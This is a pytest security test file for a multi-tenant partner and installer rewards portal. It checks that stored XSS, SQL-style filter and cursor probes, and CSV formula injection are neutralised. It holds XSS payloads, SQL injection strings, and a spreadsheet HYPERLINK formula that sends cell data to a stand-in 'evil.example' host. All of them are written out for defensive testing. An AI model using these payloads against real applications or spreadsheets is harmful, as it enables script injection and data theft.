"""Injection: what a participant (or anyone, on the public form) types is shown to the organiser's staff and DPO
escaped, never as markup; SQL-ish text in filters and cursors is data, never SQL or a wildcard (no 500, no extra
rows); what lands in a CSV staff open in a spreadsheet is not a formula."""

from __future__ import annotations

import re

import pytest
from markupsafe import escape

from portal.accounts.models import PARTICIPANT
from tests import factories
from tests.security import world as w

PAYLOADS = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>']
PROBES = ["' OR 1=1 --", "%", "_", "%' OR '1'='1", "\\", "1_1 OR 1=1", "2018-01-01_1 OR 1=1"]


def assert_escaped(page: str, payload: str, where: str) -> None:
    assert payload not in page, f"{where}: the raw markup {payload!r} is in the page"
    assert str(escape(payload)) in page, f"{where}: the text is not shown at all (so this check proves nothing)"


def _clients(app, world):
    return {role: w.logged_in(app, world.a.slug, email) for role, email in world.a.emails.items()}


# ---------------------------------------------------------------- stored XSS, lead-reward programme


@pytest.mark.parametrize("payload", PAYLOADS)
def test_lead_customer_name_and_decision_reason_are_escaped_for_staff_and_the_partner(app, tmp_path, payload):
    world = w.build(app, "distributor", tmp_path)
    c = _clients(app, world)
    slug = world.a.slug
    response = c[PARTICIPANT].post(f"/t/{slug}/leads/new", data={
        "customer_name": payload, "customer_address": payload, "customer_nip": factories.valid_nip(4242),
        "family": "O365", "plan": payload[:90], "billing": "annual", "licences": "20", "pcs": "20",
        "contact_first_name": payload, "contact_last_name": "Lis", "contact_phone": "+48 600 100 200",
        "contact_email": "ewa@partner.example.com", "vendor_consent": "y"})
    assert response.status_code == 302, response.get_data(as_text=True)
    lead_id = int(response.location.rsplit("/", 1)[1])
    assert_escaped(c["staff"].get(f"/t/{slug}/review").get_data(as_text=True), payload, "staff review queue")
    fragment = c["staff"].post(f"/t/{slug}/review/{lead_id}", data={"decision": "rejected", "reason": payload},
                               headers={"HX-Request": "true"})
    assert fragment.status_code == 200
    assert_escaped(fragment.get_data(as_text=True), payload, "the decided row (HTMX fragment)")
    assert_escaped(c[PARTICIPANT].get(f"/t/{slug}/leads/{lead_id}").get_data(as_text=True), payload,
                   "the partner's lead page")
    assert_escaped(c[PARTICIPANT].get(f"/t/{slug}/notices").get_data(as_text=True), payload,
                   "the partner's notices (lead rejected: reason)")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_partner_company_name_is_escaped_on_the_staff_partner_list(app, tmp_path, payload):
    world = w.build(app, "distributor", tmp_path)
    slug = world.a.slug
    newcomer = factories.user(w.tenants.by_slug(slug), PARTICIPANT, email="new@partner.example.com")
    client = w.logged_in(app, slug, newcomer.email)
    response = client.post(f"/t/{slug}/partner/join", data={
        "nip": factories.valid_nip(4343), "name": payload, "address": payload, "contact_first_name": payload,
        "contact_last_name": "Lis", "contact_phone": "+48 600 100 200", "contact_email": "ewa@partner.example.com"})
    assert response.status_code == 302, response.get_data(as_text=True)
    staff = w.logged_in(app, slug, world.a.emails["staff"])
    assert_escaped(staff.get(f"/t/{slug}/partners").get_data(as_text=True), payload, "staff partner list")


# ---------------------------------------------------------------- stored XSS, installer programme


@pytest.mark.parametrize("payload", PAYLOADS)
def test_complaint_text_is_escaped_for_the_commission(app, tmp_path, payload):
    world = w.build(app, "manufacturer", tmp_path)
    c = _clients(app, world)
    slug = world.a.slug
    response = c[PARTICIPANT].post(f"/t/{slug}/my-complaints", data={"kind": "programme", "text": payload})
    assert response.status_code == 302, response.get_data(as_text=True)
    assert_escaped(c["staff"].get(f"/t/{slug}/commission").get_data(as_text=True), payload, "commission queue")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_profile_names_are_escaped_for_staff_and_in_the_dpos_rectification_form(app, tmp_path, payload):
    world = w.build(app, "manufacturer", tmp_path)
    c = _clients(app, world)
    slug = world.a.slug
    response = c[PARTICIPANT].post(f"/t/{slug}/profile", data={"first_name": payload, "last_name": payload,
                                                              "locale": "en"})
    assert response.status_code == 302, response.get_data(as_text=True)
    assert_escaped(c["staff"].get(f"/t/{slug}/installers").get_data(as_text=True), payload, "staff installer list")
    filed = c["dpo"].post(f"/t/{slug}/dpo/requests", data={"kind": "rectification",
                                                           "email": world.a.emails[PARTICIPANT], "name": payload,
                                                           "details": payload, "note": "checked by phone"})
    assert filed.status_code == 302, filed.get_data(as_text=True)
    assert_escaped(c["dpo"].get(filed.location).get_data(as_text=True), payload,
                   "DPO request detail with the subject's profile in input values")


# ---------------------------------------------------------------- stored XSS, the public privacy form


@pytest.mark.parametrize("payload", PAYLOADS)
def test_public_privacy_request_name_and_details_are_escaped_for_the_dpo(app, tmp_path, payload):
    world = w.build(app, "distributor", tmp_path)
    slug = world.a.slug
    public = app.test_client()
    response = public.post(f"/t/{slug}/privacy/request", data={"kind": "access", "email": "someone@example.com",
                                                               "name": payload, "details": payload})
    assert response.status_code == 200, response.get_data(as_text=True)
    reference = re.search(r"DSR-\d{4}-\d{5}", response.get_data(as_text=True)).group(0)
    dpo = w.logged_in(app, slug, world.a.emails["dpo"])
    assert_escaped(dpo.get(f"/t/{slug}/dpo/requests/{reference}").get_data(as_text=True), payload,
                   "DPO request detail")
    console = dpo.get(f"/t/{slug}/dpo/requests").get_data(as_text=True)
    assert payload not in console


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_filter_value_is_escaped_when_the_audit_page_echoes_it(app, tmp_path, payload):
    world = w.build(app, "distributor", tmp_path)
    dpo = w.logged_in(app, world.a.slug, world.a.emails["dpo"])
    page = dpo.get(f"/t/{world.a.slug}/dpo/audit", query_string={"action": payload, "object": payload})
    assert page.status_code == 200
    assert_escaped(page.get_data(as_text=True), payload, "audit filter inputs")


# ---------------------------------------------------------------- SQL-ish probes in filters and cursors


def _audit_rows(page: str) -> int:
    return page.count("<tr><td>")


def test_audit_filters_take_sql_and_wildcards_literally(app, tmp_path):
    from sqlalchemy import select

    from portal.privacy.models import AuditEntry
    from portal.tenancy.guard import use_tenant

    world = w.build(app, "distributor", tmp_path)
    dpo = w.logged_in(app, world.a.slug, world.a.emails["dpo"])
    path = f"/t/{world.a.slug}/dpo/audit"
    with use_tenant(world.a.id):
        entries = list(w.db.session.scalars(select(AuditEntry)))
    assert entries
    everything = dpo.get(path).get_data(as_text=True)
    assert _audit_rows(everything) == min(len(entries), 200)
    prefix = entries[0].action[:5]  # the control: a real prefix finds what it should
    expected = sum(1 for e in entries if e.action.startswith(prefix))
    assert _audit_rows(dpo.get(path, query_string={"action": prefix}).get_data(as_text=True)) == expected
    for probe in PROBES:
        for name in ("action", "object"):
            response = dpo.get(path, query_string={name: probe})
            assert response.status_code == 200, (name, probe)
            assert _audit_rows(response.get_data(as_text=True)) == 0, (name, probe)


def test_review_queue_and_leads_cursors_refuse_garbage_with_400_not_500(app, tmp_path):
    world = w.build(app, "distributor", tmp_path)
    c = _clients(app, world)
    for probe in PROBES:
        assert c["staff"].get(f"/t/{world.a.slug}/review", query_string={"after": probe}).status_code == 400, probe
        assert c[PARTICIPANT].get(f"/t/{world.a.slug}/leads",
                                  query_string={"before": probe}).status_code == 400, probe


def test_partner_list_cursor_is_compared_as_text_and_adds_no_rows(app, tmp_path):
    from sqlalchemy import select

    from portal.leads.models import Partner
    from portal.tenancy.guard import use_tenant

    world = w.build(app, "distributor", tmp_path)
    staff = w.logged_in(app, world.a.slug, world.a.emails["staff"])
    with use_tenant(world.a.id):
        nips = sorted(w.db.session.scalars(select(Partner.nip)))
    for probe in [*PROBES, nips[0], "9999999999"]:
        response = staff.get(f"/t/{world.a.slug}/partners", query_string={"after": probe})
        assert response.status_code == 200, probe
        page = response.get_data(as_text=True)
        shown = sorted(n for n in nips if f"<td>{n}</td>" in page)
        assert shown == [n for n in nips if n > probe], probe
        assert w.VICTIM not in page


def test_installer_list_cursor_refuses_text(app, tmp_path):
    """The list's cursor is an id: an injection probe in it is a bad request, reaching no query."""
    world = w.build(app, "manufacturer", tmp_path)
    staff = w.logged_in(app, world.a.slug, world.a.emails["staff"])
    for probe in PROBES:
        response = staff.get(f"/t/{world.a.slug}/installers", query_string={"after": probe})
        assert response.status_code == 400, probe
        assert w.VICTIM not in response.get_data(as_text=True)


def test_api_filters_and_cursors_refuse_garbage_with_a_problem_not_500(app, client, tmp_path):
    from portal.tenancy import service as tenants
    from tests.api.conftest import Api, make_token

    world = w.build(app, "distributor", tmp_path)
    api = Api(client, make_token(tenants.by_slug(world.a.slug)))
    for probe in PROBES:
        for path, params in (("/leads", {"cursor": probe}), ("/leads", {"status": probe}),
                             ("/leads", {"partner_id": probe}), ("/participants", {"cursor": probe}),
                             ("/leads", {"limit": probe})):
            response = api.get(path, query_string=params)
            assert response.status_code in (200, 400), (path, params, response.status_code)
            if response.status_code == 200:
                assert response.get_json()["items"] == [] or params.get("limit") is None, (path, params)


# ---------------------------------------------------------------- CSV (formula) injection


FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


def test_participant_text_in_the_pit8c_csv_is_not_a_spreadsheet_formula(app, tmp_path):
    from portal.loyalty.models import Installer, RewardOrder
    from portal.tenancy.guard import use_tenant

    world = w.build(app, "manufacturer", tmp_path)
    c = _clients(app, world)
    slug = world.a.slug
    with use_tenant(world.a.id):  # P-29 lists individuals' delivered rewards
        installer = w.db.session.get(Installer, world.a_values["installer_id"][0])
        installer.business = False
        order = w.db.session.get(RewardOrder, world.a_values["order_id"][0])
        order.state, order.delivered_on = "delivered", order.ordered_on
        w.db.session.commit()
    response = c[PARTICIPANT].post(f"/t/{slug}/profile", data={"first_name": FORMULA, "last_name": "-2+3",
                                                              "locale": "en"})
    assert response.status_code == 302
    response = c[PARTICIPANT].post(f"/t/{slug}/tax-data", data={"tax_id": "5252248481", "home_address": FORMULA,
                                                               "birth_date": "1980-01-01"})
    assert response.status_code == 302, response.get_data(as_text=True)
    import csv
    import io

    text = c["staff"].get(f"/t/{slug}/pit8c.csv", query_string={"year": 2024}).get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)  # the participant's text is in the file
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
